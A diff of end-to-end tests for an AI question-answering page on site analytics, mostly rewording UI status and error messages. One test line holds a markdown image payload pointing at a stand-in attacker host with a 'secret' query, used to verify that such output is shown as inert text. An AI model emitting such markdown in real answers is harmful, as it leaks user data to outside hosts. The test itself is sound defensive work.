@@ -36,7 +36,7 @@ test("a question is asked by keys and answered with the figures that the API giv
 	await field.press("Enter");
 	const answer = page.getByRole("article", { name: "Answer" });
 	await answer.waitFor();
-	await page.getByRole("status").filter({ hasText: "The answer is there." }).waitFor();
+	await page.getByRole("status").filter({ hasText: "Answer ready." }).waitFor();
 	assert.equal(await answer.locator("strong").first().textContent(), "directly");
 	assert.equal(await answer.getByText("![x](https://evil.example/?q=secret)").count(), 1);
 	assert.equal(await answer.locator("img, a").count(), 0);
@@ -73,7 +73,7 @@ test("the answer tells how it was made, to be asked again by MCP or curl; a conv
 	assert.match(await page.evaluate(() => navigator.clipboard.readText()), /^curl .*\/mcp' -d '/);
 	await page.getByRole("button", { name: "Delete Where did visits come from?" }).click();
 	await page.getByRole("dialog").getByRole("button", { name: "Delete" }).click();
-	await page.getByText("You have not asked anything yet.").waitFor();
+	await page.getByText("No conversations yet.").waitFor();
 	await leave();
 });
 
@@ -88,7 +88,7 @@ test("a model that is away says so, keeps the question and counts nothing", asyn
 	await field.fill("Are you there?");
 	for (let n = 0; n < 2; n++) {
 		await page.getByRole("button", { name: "Ask", exact: true }).click();
-		await page.getByRole("alert").filter({ hasText: "model is away" }).waitFor();
+		await page.getByRole("alert").filter({ hasText: "model is not responding" }).waitFor();
 		assert.equal(await field.inputValue(), "Are you there?");
 	}
 	await page.getByText("99 questions left until").waitFor();
@@ -124,7 +124,7 @@ test("who has used up the month's questions reads until when", async () => {
 		.execute();
 	const { page, goto, leave } = await service.read();
 	await goto("/sites/shop/ask");
-	await page.getByText("The questions of this site are used up until 30 Nov").waitFor();
+	await page.getByText("No questions left until 30 Nov").waitFor();
 	assert.equal(await page.getByRole("button", { name: "Ask", exact: true }).isDisabled(), true);
 	await leave();
 });
